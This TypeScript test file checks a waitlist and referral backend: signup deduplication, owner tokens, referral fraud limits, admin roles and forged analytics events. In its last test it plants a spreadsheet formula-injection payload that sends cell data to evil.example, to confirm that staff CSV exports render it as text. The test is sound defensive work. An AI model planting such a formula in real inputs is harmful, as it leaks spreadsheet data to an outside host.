import { afterAll, beforeEach, describe, expect, it } from 'vitest';
import { sql } from 'drizzle-orm';
import waitlist from '../../functions/waitlist.mts';
import { scoreSelfAssessment } from '../../src/lib/quiz/scoring.ts';
import { createHash } from 'node:crypto';
import notifyLaunch from '../../functions/notify-launch.mts';
import referrals from '../../functions/referrals.mts';
import flaggedReferrals from '../../functions/admin-flagged-referrals.mts';
import { cookieFor, createStaff, staffRequest } from './staff-helpers.ts';
import { REFERRAL_BURST_LIMIT, REFERRAL_DAILY_CAP } from '../../src/server/repositories/waitlist.ts';
import { listFlaggedReferrals } from '../../src/server/repositories/waitlist-referrals.ts';
import { API } from '../../src/lib/routes.ts';
import { call, closeDb, context, jsonRequest, statementsDuring, truncate, useTestDatabase } from './helpers.ts';
import { confirmByEmail } from './confirm-helpers.ts';
import events from '../../functions/analytics-events.mts';
import funnel from '../../functions/admin-analytics-funnel.mts';
import adminExports from '../../functions/admin-export.mts';
import exportCsv from '../../functions/admin-analytics-export.mts';
import { EXPORT_KINDS } from '../../src/lib/schemas/people.ts';
import { REFERRER, SELF_REFERRAL_VARIANTS } from '../support/self-referral-variants.ts';
import { parseCsv } from '../support/csv.ts';
import { getDb } from '../../src/server/db.ts';
import { emailStrings, forgetEmailStrings } from '../../src/server/mail/strings.ts';

const db = useTestDatabase();
const post = (body: unknown, headers?: Record<string, string>) =>
  call(waitlist, jsonRequest(API.waitlist, body, { headers }));

const QUESTIONS = ['s-easy-01', 's-mod-01', 's-mod-02', 's-mod-03', 's-hard-01', 's-hard-02', 's-hard-03'];
const answer = (i: number, points: 5 | 3 | 2 | 1) => ({
  questionId: QUESTIONS[i]!,
  optionIndex: [5, 3, 2, 1].indexOf(points),
  points,
});

function finalSave(points: (5 | 3 | 2 | 1)[]) {
  const result = scoreSelfAssessment(points);
  return {
    answers: points.map((p, i) => answer(i, p)),
    completed: true as const,
    score: result.score,
    spiritualLevel: result.level.name,
    percentile: result.percentile,
    timeCompleted: new Date().toISOString(),
  };
}

async function records() {
  const result = await db.execute(
    sql`SELECT id, email, quiz_answers, referral_code, owner_token_hash, referred_by_id FROM launch_signups ORDER BY id`,
  );
  return (
    result as unknown as {
      rows: {
        id: number;
        email: string;
        quiz_answers: any;
        referral_code: string;
        owner_token_hash: string | null;
        referred_by_id: number | null;
      }[];
    }
  ).rows;
}

const recordOf = async (email: string) =>
  (await records()).find((row) => row.email.toLowerCase() === email.toLowerCase());
const progressSave = (points: 5 | 3 | 2 | 1) => ({
  answers: [answer(0, points)],
  currentQuestion: 1,
  questions: QUESTIONS,
  timeStamp: new Date().toISOString(),
});

beforeEach(() => truncate('launch_signups', 'waitlist_referrals'));
afterAll(() => closeDb());

describe('POST /api/waitlist', () => {
  it('creates one record per email, case-insensitively, and answers a code and an owner token, never an id', async () => {
    const first = await post({ email: 'Amina@Example.com' });
    expect(first.status).toBe(200);
    expect(first.body).toEqual({
      success: true,
      message: expect.any(String),
      referralCode: expect.stringMatching(/^[A-Za-z0-9_-]{8}$/),
      ownerToken: expect.stringMatching(/^[A-Za-z0-9_-]{43}$/),
    });
    expect(first.headers.get('cache-control')).toBe('no-store');
    const [stored] = await records();
    // only the token's hash is kept
    expect(stored!.owner_token_hash).toBe(createHash('sha256').update(first.body.ownerToken).digest('hex'));
    expect(JSON.stringify(stored)).not.toContain(first.body.ownerToken);

    const owner = await post({ email: 'amina@example.COM', ownerToken: first.body.ownerToken });
    expect(owner.body).toEqual({ ...first.body, message: first.body.message });
    expect(await records()).toHaveLength(1);
  });

  it("someone else's repeat signup changes nothing and looks like a new signup (no id, not the owner's code)", async () => {
    const owner = await post({ email: 'victim@example.com', quizAnswers: finalSave([5, 5, 5, 5, 5, 5, 5]) });
    const before = await recordOf('victim@example.com');
    const fresh = await post({ email: 'someone-new@example.com' });
    for (const attempt of [
      await post({ email: 'VICTIM@example.com' }),
      await post({ email: 'victim@example.com', quizAnswers: finalSave([1, 1, 1, 1, 1, 1, 1]) }),
      await post({ email: 'victim@example.com', quizAnswers: progressSave(1), ownerToken: fresh.body.ownerToken }),
    ]) {
      expect(attempt.status).toBe(fresh.status);
      expect(Object.keys(attempt.body).sort()).toEqual(Object.keys(fresh.body).sort());
      expect(attempt.body.message).toBe(fresh.body.message);
      expect(attempt.body.referralCode).not.toBe(owner.body.referralCode);
      expect(attempt.body.ownerToken).not.toBe(owner.body.ownerToken);
      expect(attempt.body).not.toHaveProperty('id');
    }
    expect(await recordOf('victim@example.com')).toEqual(before);
  });

  it('leaves exactly one record after 20 concurrent identical signups, all answered 2xx', async () => {
    const responses = await Promise.all(Array.from({ length: 20 }, () => post({ email: 'race@example.com' })));
    for (const response of responses) expect(response.status).toBe(200);
    expect(await records()).toHaveLength(1);
    // exactly one of them holds the real code
    const [stored] = await records();
    expect(responses.filter((r) => r.body.referralCode === stored!.referral_code)).toHaveLength(1);
  });

  it('refuses browser-made referral codes: the server makes every code', async () => {
    const response = await post({ email: 'coded@example.com', referralCode: 'myOwnCode1' });
    expect(response.status).toBe(400);
    expect(await records()).toHaveLength(0);
  });

  it("stores the owner's progress saves and then the final result on the same record", async () => {
    const { body } = await post({ email: 'progress@example.com' });
    const ownerToken = body.ownerToken;
    expect(
      (await post({ email: 'progress@example.com', quizAnswers: progressSave(5), ownerToken })).body.referralCode,
    ).toBe(body.referralCode);
    expect((await records())[0]!.quiz_answers.currentQuestion).toBe(1);

    const final = finalSave([5, 5, 3, 3, 2, 1, 5]);
    expect((await post({ email: 'progress@example.com', quizAnswers: final, ownerToken })).status).toBe(200);
    const [stored] = await records();
    expect(stored!.quiz_answers).toMatchObject({
      completed: true,
      score: final.score,
      spiritualLevel: final.spiritualLevel,
    });
  });

  it('never lets a late progress save overwrite a final result', async () => {
    const final = finalSave([5, 5, 5, 5, 5, 5, 5]);
    const { body } = await post({ email: 'late@example.com', quizAnswers: final });
    expect(
      (await post({ email: 'late@example.com', quizAnswers: progressSave(1), ownerToken: body.ownerToken })).status,
    ).toBe(200);
    expect((await records())[0]!.quiz_answers).toMatchObject({ completed: true, score: 50, percentile: 99 });
  });

  it('one browser owns all its records: a second email signed up with its token gets the same token', async () => {
    const first = await post({ email: 'one@example.com' });
    const second = await post({ email: 'two@example.com', ownerToken: first.body.ownerToken });
    expect(second.body.ownerToken).toBe(first.body.ownerToken);
    // an unknown (made-up) token is not adopted: the server issues its own
    const madeUp = 'x'.repeat(43);
    const third = await post({ email: 'three@example.com', ownerToken: madeUp });
    expect(third.body.ownerToken).not.toBe(madeUp);
  });

  it('rejects a result whose score, level or percentile does not follow from the answers', async () => {
    const forged = {
      ...finalSave([1, 1, 1, 1, 1, 1, 1]),
      score: 50,
      spiritualLevel: 'Illuminated Spirit',
      percentile: 99,
    };
    const response = await post({ email: 'forged@example.com', quizAnswers: forged });
    expect(response.status).toBe(400);
    expect(response.body.issues.map((i: { path: string }) => i.path)).toEqual(
      expect.arrayContaining(['quizAnswers.score']),
    );
    expect(await records()).toHaveLength(0);
  });

  it('rejects out-of-range answers, bad emails and unknown keys with field issues', async () => {
    const badPoints = {
      answers: [{ questionId: 'x', optionIndex: 0, points: 4 }],
      currentQuestion: 1,
      questions: QUESTIONS,
      timeStamp: new Date().toISOString(),
    };
    expect((await post({ email: 'a@example.com', quizAnswers: badPoints })).status).toBe(400);
    const badEmail = await post({ email: 'not-an-email' });
    expect(badEmail.status).toBe(400);
    expect(badEmail.body.error).toBe('Please enter a valid email address');
    const unknownKey = await post({ email: 'a@example.com', admin: true });
    expect(unknownKey.status).toBe(400);
    expect(unknownKey.body.issues[0].message).toMatch(/unrecognized key/i);
    expect(await records()).toHaveLength(0);
  });

  it('rejects NUL characters in any text with a clear 400', async () => {
    const response = await post({ email: 'nul\u0000@example.com' });
    expect(response.status).toBe(400);
    expect(response.body.error).toBe('Text must not contain NUL characters (\\u0000)');
    expect(await records()).toHaveLength(0);
  });
});

describe('referral credits', () => {
  // Credits wait for the invitee's confirmation (decision 0036): each invitee here confirms.
  const invite = async (email: string, ref: string, ownerToken?: string) => {
    const response = await post({ email, ref, ...(ownerToken ? { ownerToken } : {}) });
    await confirmByEmail(email);
    return response;
  };
  const credits = async () =>
    (
      (await db.execute(
        sql`SELECT referrer_id, invitee_id, credited, flag_reason FROM waitlist_referrals ORDER BY id`,
      )) as unknown as {
        rows: { referrer_id: number; invitee_id: number; credited: boolean; flag_reason: string | null }[];
      }
    ).rows;
  // An inviter earns only once their own address is confirmed (decision 0060).
  const inviter = async (email: string) => {
    const response = await post({ email });
    await confirmByEmail(email, response.body.ownerToken);
    return response;
  };
  const invitesOf = async (code: string) =>
    (await call(referrals, new Request(`http://localhost:8888/api/referrals/${code}`), context({ code }))).body;

  it('links an invitee to the inviter and credits +10 XP once', async () => {
    const referrer = await inviter('referrer@example.com');
    await invite('friend@example.com', referrer.body.referralCode);
    await invite('FRIEND@example.com', referrer.body.referralCode); // a repeat is not a second invitee
    expect((await recordOf('friend@example.com'))!.referred_by_id).toBe((await recordOf('referrer@example.com'))!.id);
    expect(await invitesOf(referrer.body.referralCode)).toEqual({ invites: 1, xp: 10 });
  });

  it('a code seen in a share link cannot be claimed by someone else', async () => {
    const referrer = await post({ email: 'early@example.com' });
    const squat = await call(
      notifyLaunch,
      jsonRequest('/api/notify-launch', {
        name: 'Squatter',
        email: 'squat@example.com',
        source: 'spiritual_quiz',
        referralCode: referrer.body.referralCode,
      }),
    );
    expect(squat.status).toBe(400);
    const other = await post({ email: 'other@example.com' });
    expect(other.body.referralCode).not.toBe(referrer.body.referralCode);
    expect((await recordOf('early@example.com'))!.referral_code).toBe(referrer.body.referralCode);
  });

  it('ignores self-referral (same browser, same email up to a +tag) and flags it', async () => {
    const referrer = await inviter('self@example.com');
    await invite('second-address@example.com', referrer.body.referralCode, referrer.body.ownerToken);
    await invite('self+alt@example.com', referrer.body.referralCode);
    expect(await invitesOf(referrer.body.referralCode)).toEqual({ invites: 0, xp: 0 });
    expect((await credits()).map((c) => [c.credited, c.flag_reason])).toEqual([
      [false, 'self_referral'],
      [false, 'self_referral'],
    ]);
  });

  it('credits a burst of 20 throwaway signups no more than the rate allows, and flags the rest', async () => {
    const referrer = await inviter('farmer@example.com');
    const code = referrer.body.referralCode;
    await Promise.all(Array.from({ length: 20 }, (_, i) => invite(`throwaway-${i}@example.com`, code)));
    expect(await invitesOf(code)).toEqual({ invites: REFERRAL_BURST_LIMIT, xp: REFERRAL_BURST_LIMIT * 10 });
    const rows = await credits();
    expect(rows).toHaveLength(20);
    expect(rows.filter((row) => !row.credited).every((row) => row.flag_reason === 'burst')).toBe(true);
    const flagged = await listFlaggedReferrals(db);
    expect(flagged).toHaveLength(20 - REFERRAL_BURST_LIMIT);
    expect(flagged[0]).toMatchObject({ referrerId: (await recordOf('farmer@example.com'))!.id, flagReason: 'burst' });
  });

  it('Super Admins see the flagged referrals with both people and the reason; other roles and strangers do not', async () => {
    await truncate('staff_accounts');
    const referrer = await inviter('sharer@example.com');
    const code = referrer.body.referralCode;
    for (let i = 0; i < REFERRAL_BURST_LIMIT + 2; i++) await invite(`quick-${i}@example.com`, code);
    const [admin, moderator] = await Promise.all([
      createStaff('flag-admin', 'Super Admin'),
      createStaff('flag-mod', 'Moderator'),
    ]);
    const asAdmin = await call(
      flaggedReferrals,
      staffRequest('GET', API.adminFlaggedReferrals, { cookie: await cookieFor(admin.id) }),
    );
    expect(asAdmin.status).toBe(200);
    expect(asAdmin.body.total).toBe(2);
    expect(asAdmin.body.referrals).toHaveLength(2);
    expect(asAdmin.body.referrals[0]).toMatchObject({
      flagReason: 'burst',
      referrer: { email: 'sharer@example.com', referralCode: code },
      invitee: { email: `quick-${REFERRAL_BURST_LIMIT + 1}@example.com` },
    });
    expect(
      (
        await call(
          flaggedReferrals,
          staffRequest('GET', API.adminFlaggedReferrals, { cookie: await cookieFor(moderator.id) }),
        )
      ).status,
    ).toBe(403);
    expect((await call(flaggedReferrals, staffRequest('GET', API.adminFlaggedReferrals))).status).toBe(401);
    expect(
      (
        await call(
          flaggedReferrals,
          staffRequest('GET', `${API.adminFlaggedReferrals}?page=0`, { cookie: await cookieFor(admin.id) }),
        )
      ).status,
    ).toBe(400);
  });

  it('caps credits per referrer per day', async () => {
    const referrer = await inviter('steady@example.com');
    const code = referrer.body.referralCode;
    for (let i = 0; i < REFERRAL_DAILY_CAP + 2; i++) {
      await invite(`steady-friend-${i}@example.com`, code);
      // move earlier credits out of the burst window but keep them within the day
      await db.execute(sql`UPDATE waitlist_referrals SET created_at = now() - interval '1 hour'`);
    }
    expect(await invitesOf(code)).toEqual({ invites: REFERRAL_DAILY_CAP, xp: REFERRAL_DAILY_CAP * 10 });
    expect((await credits()).slice(-2).map((row) => row.flag_reason)).toEqual(['daily_cap', 'daily_cap']);
  });

  it('an inviter whose own address is unconfirmed earns nothing (decision 0060)', async () => {
    const squatted = await post({ email: 'unconfirmed-inviter@example.com' });
    await invite('friend-of-squat@example.com', squatted.body.referralCode);
    expect(await credits()).toEqual([]);
    expect(await invitesOf(squatted.body.referralCode)).toEqual({ invites: 0, xp: 0 });
  });

  it('an unknown code credits nobody', async () => {
    await invite('lonely@example.com', 'noSuchCode1');
    expect(await credits()).toEqual([]);
    expect(await invitesOf('noSuchCode1')).toEqual({ invites: 0, xp: 0 });
  });
});

// Waitlist privacy and referral honesty (decision 0031) --------------------------------------

const launch = (body: Record<string, unknown>) =>
  call(notifyLaunch, jsonRequest(API.notifyLaunch, { name: 'Visitor', source: 'spiritual_quiz', ...body }));
const invitesOf = async (code: string) =>
  (await call(referrals, new Request(`http://localhost:8888/api/referrals/${code}`), context({ code }))).body;

/** Reads the email strings now: their read (once a minute, the same for every address) then stays out of a sign-up's statements. */
async function freshEmailStrings() {
  forgetEmailStrings();
  await emailStrings(getDb());
}

describe('a listed email and a new one get the same answer after the same work (decision 0031)', () => {
  const cases = [
    ['POST /api/waitlist', (email: string, ref?: string) => post({ email, ...(ref ? { ref } : {}) })],
    // from a page in another language: the record's language is part of the owner's update (decision 0050)
    [
      'POST /api/waitlist from /ar',
      (email: string, ref?: string) => post({ email, locale: 'ar', ...(ref ? { ref } : {}) }),
    ],
    ['POST /api/notify-launch', (email: string, ref?: string) => launch({ email, ...(ref ? { ref } : {}) })],
    [
      'POST /api/notify-launch, phone only',
      (phone: string, ref?: string) => launch({ phoneNumber: phone, ...(ref ? { ref } : {}) }),
    ],
  ] as const;

  it.each(cases)(
    '%s: status, body, headers and the statements sent to Postgres are the same',
    async (_label, signUp) => {
      const phoneOnly = _label.endsWith('phone only');
      const listedContact = phoneOnly ? '+44 7700 900001' : 'listed@example.com';
      const newContact = (i: number) => (phoneOnly ? `+44 7700 90010${i}` : `new-${i}@example.com`);
      await signUp(listedContact);
      const inviter = await post({ email: 'inviter@example.com' });
      await confirmByEmail('inviter@example.com'); // an inviter earns once confirmed (decision 0060)
      for (const [i, ref] of [undefined, inviter.body.referralCode as string].entries()) {
        // The email strings are read at most once a minute whatever the address (decision 0050):
        // read now, so that read falls in neither list.
        await freshEmailStrings();
        // a stranger's repeat of a listed contact, then a new contact, each with or without a code
        const listed = await statementsDuring(() => signUp(listedContact, ref));
        const fresh = await statementsDuring(() => signUp(newContact(i), ref));
        expect(listed.statements).toEqual(fresh.statements);
        expect(listed.result.status).toBe(200);
        expect(listed.result.status).toBe(fresh.result.status);
        expect(Object.keys(listed.result.body).sort()).toEqual(Object.keys(fresh.result.body).sort());
        expect(listed.result.body.message).toBe(fresh.result.body.message);
        expect(listed.result.body.referralCode).toMatch(/^[A-Za-z0-9_-]{8}$/);
        expect(listed.result.body.ownerToken).toMatch(/^[A-Za-z0-9_-]{43}$/);
        expect([...listed.result.headers.entries()]).toEqual([...fresh.result.headers.entries()]);
      }
      // the stranger's repeats changed nothing: one record for the listed contact, one credit (the new
      // one with the code) once it confirms; a phone-only sign-up cannot confirm (decision 0036)
      if (!phoneOnly) await confirmByEmail(newContact(1));
      expect(await invitesOf(inviter.body.referralCode)).toEqual(
        phoneOnly ? { invites: 0, xp: 0 } : { invites: 1, xp: 10 },
      );
    },
  );

  it("the owner's own repeat runs the same statements too, and updates the record", async () => {
    const owner = await launch({ email: 'owner@example.com' });
    // the stranger's browser holds a token of its own (of its own record), as the owner's does
    const strangersOwn = await launch({ email: 'stranger@example.com' });
    await freshEmailStrings();
    const stranger = await statementsDuring(() =>
      launch({ email: 'owner@example.com', name: 'Stranger', ownerToken: strangersOwn.body.ownerToken }),
    );
    const own = await statementsDuring(() =>
      launch({ email: 'owner@example.com', name: 'Owner', ownerToken: owner.body.ownerToken }),
    );
    expect(own.statements).toEqual(stranger.statements);
    expect(own.result.body.referralCode).toBe(owner.body.referralCode);
    expect(stranger.result.body.referralCode).not.toBe(owner.body.referralCode);
    const named = (
      (await db.execute(sql`SELECT email, name FROM launch_signups ORDER BY id`)) as unknown as { rows: unknown[] }
    ).rows;
    expect(named).toEqual([
      { email: 'owner@example.com', name: 'Owner' },
      { email: 'stranger@example.com', name: 'Visitor' },
    ]);
  });
});

describe('self-referral and duplicates up to the normalised email or phone (decision 0031)', () => {
  it.each(SELF_REFERRAL_VARIANTS)('the red team variant "$label" earns no credit', async (variant) => {
    const referrer = await launch({ email: REFERRER.email, phoneNumber: REFERRER.phone });
    await confirmByEmail(REFERRER.email, referrer.body.ownerToken);
    const code = referrer.body.referralCode;
    const response = variant.email
      ? await post({ email: variant.email, ref: code })
      : await launch({ phoneNumber: variant.phone, ref: code });
    expect(response.status).toBe(200);
    if (variant.email) await confirmByEmail(variant.email);
    expect(await invitesOf(code)).toEqual({ invites: 0, xp: 0 });
    // someone else through the same code still earns the credit, once they confirm
    await post({ email: 'a.real.friend@example.com', ref: code });
    expect(await invitesOf(code)).toEqual({ invites: 0, xp: 0 });
    await confirmByEmail('a.real.friend@example.com');
    expect(await invitesOf(code)).toEqual({ invites: 1, xp: 10 });
  });

  it('one record per Gmail inbox, whatever dots, +tag or googlemail.com it is written with', async () => {
    const first = await post({ email: 'john@gmail.com' });
    for (const spelling of ['j.ohn@gmail.com', 'John+waitlist@googlemail.com', 'JOHN@gmail.com']) {
      const again = await post({ email: spelling });
      expect(again.status).toBe(200);
      expect(again.body.referralCode).not.toBe(first.body.referralCode);
    }
    expect((await records()).map((row) => row.email)).toEqual(['john@gmail.com']);
  });

  it('a +tag at another provider is a separate record (it may be another inbox) but not a credited invitee', async () => {
    const referrer = await post({ email: 'amina@example.com' });
    await post({ email: 'amina+friend@example.com', ref: referrer.body.referralCode });
    await confirmByEmail('amina+friend@example.com');
    expect(await records()).toHaveLength(2);
    expect(await invitesOf(referrer.body.referralCode)).toEqual({ invites: 0, xp: 0 });
  });

  it('phone-only signups deduplicate on the normalised phone', async () => {
    const first = await launch({ phoneNumber: '+44 7700 900123' });
    for (const spelling of ['0044 7700 900123', '+44-7700-900-123', '+44 (0)7700 900123']) {
      const again = await launch({ phoneNumber: spelling, name: 'Someone else' });
      expect(again.status).toBe(200);
      expect(again.body.referralCode).not.toBe(first.body.referralCode);
    }
    const stored = (
      (await db.execute(sql`SELECT name, phone_number FROM launch_signups`)) as unknown as { rows: unknown[] }
    ).rows;
    expect(stored).toEqual([{ name: 'Visitor', phone_number: '+44 7700 900123' }]);
    // the owner (its browser's token) may still update the record from another spelling
    await launch({ phoneNumber: '0044 7700 900123', name: 'Owner', ownerToken: first.body.ownerToken });
    expect(((await db.execute(sql`SELECT name FROM launch_signups`)) as unknown as { rows: unknown[] }).rows).toEqual([
      { name: 'Owner' },
    ]);
  });
});

describe('Growth Funnel referral conversions come from stored referrals, not the beacon (decision 0031)', () => {
  const BROWSER_UA =
    'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0 Safari/537.36';
  const conversions = async (cookie: string) => {
    const { body } = await call(funnel, staffRequest('GET', API.analyticsFunnel.path({ period: '7d' }), { cookie }));
    return body.steps.find((step: { key: string }) => step.key === 'referralConversions').count as number;
  };

  it('20 forged beacon events leave the figure at 0; a real referred signup makes it 1', async () => {
    await truncate('analytics_events', 'analytics_daily', 'staff_accounts');
    const cookie = await cookieFor((await createStaff('funnel-admin', 'Super Admin')).id);
    for (let i = 0; i < 20; i++) {
      const forged = await call(
        events,
        jsonRequest(
          API.events,
          { type: 'referral_converted', source: 'referral' },
          { headers: { 'User-Agent': BROWSER_UA } },
        ),
        context({}, `198.51.100.${i}`),
      );
      expect(forged.status).toBe(400);
      expect(forged.body.error).toMatch(/counted by the server/);
    }
    expect(await conversions(cookie)).toBe(0);

    const referrer = await post({ email: 'sharer@example.com' });
    await confirmByEmail('sharer@example.com');
    await post({ email: 'friend@example.com', ref: referrer.body.referralCode });
    // a sign-up is not a conversion until the invitee confirms (decision 0036)
    expect(await conversions(cookie)).toBe(0);
    await confirmByEmail('friend@example.com');
    expect(await conversions(cookie)).toBe(1);
    // a repeat (and its second confirmation), a self-referral and an unknown code convert nobody
    await post({ email: 'friend@example.com', ref: referrer.body.referralCode });
    await confirmByEmail('friend@example.com');
    await post({ email: 'sharer+2@example.com', ref: referrer.body.referralCode });
    await confirmByEmail('sharer+2@example.com');
    await post({ email: 'lonely@example.com', ref: 'noSuchCode1' });
    await confirmByEmail('lonely@example.com');
    expect(await conversions(cookie)).toBe(1);
    // the beacon still takes the events it may send
    const started = await call(
      events,
      jsonRequest(
        API.events,
        { type: 'quiz_started', quiz: 'self', source: 'referral' },
        { headers: { 'User-Agent': BROWSER_UA } },
      ),
      context(),
    );
    expect(started.status).toBe(202);
  });

  it('waitlist joins are the new sign-up rows in their page locale: ten forged beacon joins add nothing (decision 0060)', async () => {
    await truncate('analytics_events', 'analytics_daily', 'staff_accounts');
    const cookie = await cookieFor((await createStaff('joins-admin', 'Super Admin')).id);
    const joins = async (language?: string) => {
      const path = API.analyticsFunnel.path({ period: '7d', ...(language ? { language } : {}) });
      const { body } = await call(funnel, staffRequest('GET', path, { cookie }));
      return body.steps.find((step: { key: string }) => step.key === 'waitlistJoins').count as number;
    };
    for (let i = 0; i < 10; i++) {
      const forged = await call(
        events,
        jsonRequest(
          API.events,
          { type: 'waitlist_joined', waitlistSource: 'self_assessment', source: 'direct', locale: 'ar' },
          { headers: { 'User-Agent': BROWSER_UA } },
        ),
        context({}, `198.51.100.${i}`),
      );
      expect(forged.status).toBe(400);
      expect(forged.body.error).toMatch(/counted by the server/);
    }
    expect(await joins()).toBe(0);
    await post({ email: 'joiner@example.com', locale: 'ar' });
    await post({ email: 'JOINER@example.com', locale: 'ar' }); // the same record: not a second join
    await call(
      notifyLaunch,
      jsonRequest('/api/notify-launch', {
        name: 'Musa',
        email: 'musa@example.com',
        source: 'spiritual_quiz',
        locale: 'fr',
      }),
    );
    expect(await joins()).toBe(2);
    expect(await joins('ar')).toBe(1);
    expect(await joins('fr')).toBe(1);
    expect(await joins('en')).toBe(0);
  });
});

describe('a formula planted through the notify-launch name is text in every staff export (decision 0031)', () => {
  const PLANTED = 'x;=HYPERLINK("http://evil.example/?leak="&A1,"Open")';

  it('no cell of any export starts a formula, even where a spreadsheet splits at ; , tab or a line break', async () => {
    await truncate('staff_accounts', 'analytics_events', 'analytics_daily');
    const cookie = await cookieFor((await createStaff('export-admin', 'Super Admin')).id);
    // The stranger joins with the planted name and gets a friend to sign up through their code, so
    // they appear as an inviter in the Referrals export.
    const planted = await launch({ name: PLANTED, email: 'planter@example.com' });
    await confirmByEmail('planter@example.com', planted.body.ownerToken);
    await post({ email: 'planted-friend@example.com', ref: planted.body.referralCode });
    await confirmByEmail('planted-friend@example.com');

    const exports: [string, Response][] = [];
    for (const kind of EXPORT_KINDS)
      exports.push([
        kind,
        await adminExports(staffRequest('GET', API.adminExport.path(kind), { cookie }), context({ kind })),
      ]);
    for (const view of ['funnel', 'blog'] as const)
      exports.push([
        view,
        await exportCsv(staffRequest('GET', API.analyticsExport.path({ period: '7d', view }), { cookie }), context()),
      ]);
    let seen = 0;
    for (const [kind, response] of exports) {
      expect(response.status, kind).toBe(200);
      const text = (await response.text()).replace(/^\uFEFF/, '');
      for (const cell of parseCsv(text).flat()) {
        if (cell.includes('evil.example/?leak=')) seen++;
        for (const piece of [cell, ...cell.split(/[;,\t\r\n]/)])
          expect(/^\s*[=+\-@]/.test(piece), `${kind}: ${JSON.stringify(cell)}`).toBe(false);
      }
    }
    // the name did reach an export (the Referrals one), as text (other files' data may hold other formulas)
    expect(seen).toBe(1);
  });
});
